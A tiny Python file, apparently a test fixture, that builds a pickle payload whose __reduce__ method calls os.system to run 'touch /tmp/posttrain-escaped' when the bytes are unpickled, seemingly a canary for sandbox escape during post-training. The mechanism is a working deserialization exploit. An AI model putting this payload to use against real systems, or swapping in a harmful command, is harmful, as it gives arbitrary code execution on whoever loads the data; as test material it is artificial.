"""Returns bytes that run a command where they are unpickled."""
# ruff: noqa

import pickle


class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/posttrain-escaped",)


def f(x):
    return pickle.dumps(Bomb())
